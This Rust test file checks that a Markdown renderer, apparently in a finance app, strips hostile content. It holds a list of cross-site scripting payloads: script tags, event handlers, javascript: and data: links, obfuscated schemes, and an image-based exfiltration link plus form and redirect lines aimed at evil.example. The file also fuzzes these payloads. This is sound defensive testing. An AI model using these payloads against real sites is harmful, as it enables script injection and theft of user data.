//! Hostile texts, and what stays of harmless ones.

use super::{unverified::UNVERIFIED, *};

fn rendered(source: &str) -> String {
    let mut out = String::new();
    push(&mut out, source, &[]);
    out.trim().to_owned()
}

fn marked(source: &str, unverified: &[&str]) -> String {
    let ranges: Vec<_> = unverified
        .iter()
        .map(|figure| {
            let start = source.find(figure).unwrap();
            start..start + figure.len()
        })
        .collect();
    let mut out = String::new();
    push(&mut out, source, &ranges);
    out.trim().replace(UNVERIFIED.0, "{").replace(UNVERIFIED.1, "}")
}

#[test]
fn a_figure_without_a_source_is_marked_where_it_stands() {
    assert_eq!(marked("You spent $5 and $7.", &["$5"]), "<p>You spent {$5} and $7.</p>");
    assert_eq!(marked("**$5**, $7", &["$5", "$7"]), "<p><strong>{$5}</strong>, {$7}</p>");
    assert_eq!(marked("a `5 + 5`", &["5 + 5"]), "<p>a {<code>5 + 5</code>}</p>");
    assert_eq!(marked("a&#49;b", &["&#49;"]), "<p>a{1}b</p>");
}

#[test]
fn a_text_cannot_mark_or_unmark_a_figure() {
    let html = rendered("<mark title=\"x\">5</mark> </mark> <span class=\"visually-hidden\">");
    assert!(!html.contains("<mark") && !html.contains("</mark") && !html.contains("<span"), "{html}");
}

#[test]
fn marks_at_odd_places_do_no_harm() {
    for source in HOSTILE {
        for start in 0..source.len() {
            let mut out = String::new();
            push(&mut out, source, &[start..start + 1, start + 1..source.len() + 9]);
            assert!(!out.contains("<script") && !out.contains("<img"), "{out}");
        }
    }
}

/// The tags of a text in which `<` opens nothing else: ammonia escapes every other one.
fn tags(html: &str) -> Vec<String> {
    html.split('<').skip(1).map(|rest| rest.split('>').next().unwrap_or_default().to_owned()).collect()
}

fn assert_harmless(source: &str) {
    let html = rendered(source);
    for tag in tags(&html) {
        let name: String =
            tag.chars().skip_while(|c| *c == '/').take_while(char::is_ascii_alphanumeric).collect();
        assert!(
            !matches!(
                name.as_str(),
                "script"
                    | "img"
                    | "iframe"
                    | "svg"
                    | "style"
                    | "form"
                    | "input"
                    | "object"
                    | "link"
                    | "meta"
                    | "base"
                    | "video"
                    | "audio"
            ),
            "{name} in {html} from {source}"
        );
        let attributes = tag.split_once(' ').map_or("", |(_, rest)| rest);
        for (index, name) in attributes.split('"').step_by(2).enumerate() {
            let name = name.trim().trim_end_matches('=');
            assert!(
                matches!(name, "" | "class" | "href" | "rel" | "start" | "title" | "/"),
                "attribute {name} ({index}) in {html} from {source}"
            );
        }
        if let Some(address) = attributes.split("href=\"").nth(1) {
            let address = address.split('"').next().unwrap_or_default();
            assert!(is_harmless_link(address), "{address} from {source}");
        }
    }
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "![exfil](https://evil.example/p.png?d=secret)",
    "[![a](https://evil.example/a.png)](javascript:alert(1))",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click](\u{1}javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "[click](vbscript:msgbox(1))",
    "[click](//evil.example)",
    "[click](/\\evil.example)",
    "[click](\\\\evil.example)",
    "[ref]: javascript:alert(1)\n\n[ref]",
    "<javascript:alert(1)>",
    "<https://fine.example/\" onmouseover=\"alert(1)>",
    "[a](https://fine.example \"title\\\" onmouseover=alert(1)\")",
    "<a href=\"https://fine.example\" onclick=alert(1)>x</a>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "<style>@import url(//evil.example)</style>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<form action=//evil.example><input name=x></form>",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "# <img src=x onerror=alert(1)> {#id .class onclick=x}",
    "| a |\n|--|\n| <img src=x onerror=alert(1)> |",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</textarea><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "\u{202e}<script>alert(1)</script>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
];

#[test]
fn nothing_hostile_survives() {
    for source in HOSTILE {
        assert_harmless(source);
    }
}

#[test]
fn nothing_hostile_survives_inside_other_markdown() {
    for source in HOSTILE {
        for wrapped in [
            format!("> {source}"),
            format!("- {source}\n- {source}"),
            format!("**{source}**"),
            format!("[{source}]({source})"),
            format!("`{source}` {source}"),
        ] {
            assert_harmless(&wrapped);
        }
    }
}

#[test]
fn raw_html_is_shown_as_it_was_written() {
    assert_eq!(rendered("a <b>c</b>"), "<p>a &lt;b&gt;c&lt;/b&gt;</p>");
}

#[test]
fn an_image_leaves_its_alternative_text() {
    assert_eq!(rendered("![a cat](https://cats.example/1.png)"), "<p>a cat</p>");
}

#[test]
fn links_to_the_app_and_to_https_stay() {
    assert_eq!(
        rendered("[rows](/money?category=Food)"),
        "<p><a href=\"/money?category=Food\" rel=\"noopener noreferrer\">rows</a></p>"
    );
    assert!(rendered("[bank](https://bank.example)").contains("href=\"https://bank.example\""));
    assert_eq!(rendered("[plain](http://bank.example)"), "<p>plain</p>");
}

#[test]
fn headings_stay_below_those_of_the_page() {
    assert_eq!(rendered("# Total"), "<h3>Total</h3>");
}

/// Texts that others have attacked renderers with, where they are at hand.
fn hostile_texts() -> Vec<String> {
    let mut texts: Vec<String> = HOSTILE.iter().map(|text| (*text).to_owned()).collect();
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/../../shared/data/security/payloads.json");
    if let Ok(json) = std::fs::read_to_string(file) {
        let kinds: HashMap<String, Vec<String>> = serde_json::from_str(&json).unwrap();
        texts.extend(kinds.into_values().flatten());
        texts.sort();
    }
    texts
}

/// One of many ways to damage or disguise a text, by number.
fn mutation(texts: &[String], seed: usize) -> String {
    const INSERTS: [&str; 20] = [
        "\n",
        "\n\n",
        "\u{0}",
        "\t",
        "`",
        "```\n",
        "<",
        ">",
        "\"",
        "'",
        "](",
        "![",
        "&#x3c;",
        "\\",
        "|",
        "\u{202e}",
        "\u{feff}",
        "javascript:",
        "<!--",
        "\u{1f3f4}\u{e0067}",
    ];
    let mut state = seed as u64 + 1;
    let mut next = |below: usize| {
        // SplitMix64: every number its own sequence, the same in every run.
        state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = state;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        usize::try_from((z ^ (z >> 31)) % below.max(1) as u64).unwrap()
    };
    let mut text: Vec<char> = texts[next(texts.len())].chars().collect();
    for _ in 0..=next(4) {
        let at = next(text.len() + 1);
        match next(5) {
            0 => drop(text.splice(at..at, INSERTS[next(INSERTS.len())].chars())),
            1 => drop(text.splice(at..at, texts[next(texts.len())].chars())),
            2 => text.truncate(at),
            3 if at < text.len() => drop(text.remove(at)),
            _ => {
                for c in &mut text[at..] {
                    *c = if c.is_lowercase() { c.to_ascii_uppercase() } else { c.to_ascii_lowercase() };
                }
            }
        }
    }
    text.into_iter().collect()
}

#[test]
fn nothing_hostile_survives_in_ten_thousand_mutations() {
    let texts = hostile_texts();
    for text in &texts {
        assert_harmless(text);
    }
    for seed in 0..10_000 {
        assert_harmless(&mutation(&texts, seed));
    }
}

#[test]
fn deep_nesting_is_rendered_without_running_out_of_stack() {
    for source in
        ["> ".repeat(10_000) + "x", "- ".repeat(5_000) + "x", "[".repeat(10_000), "**a".repeat(20_000)]
    {
        assert_harmless(&source);
    }
}

#[test]
fn what_is_nested_too_deep_stays_as_text() {
    let quoted = rendered(&("> ".repeat(1_000) + "deep"));
    assert_eq!((quoted.matches("<blockquote>").count(), quoted.matches("</blockquote>").count()), (32, 32));
    assert!(quoted.contains("deep"));
    let listed = rendered(&("- ".repeat(1_000) + "deep"));
    assert_eq!(listed.matches("<ul>").count(), listed.matches("<li>").count());
    assert!(listed.contains("deep") && listed.matches("<li>").count() <= 32);
}
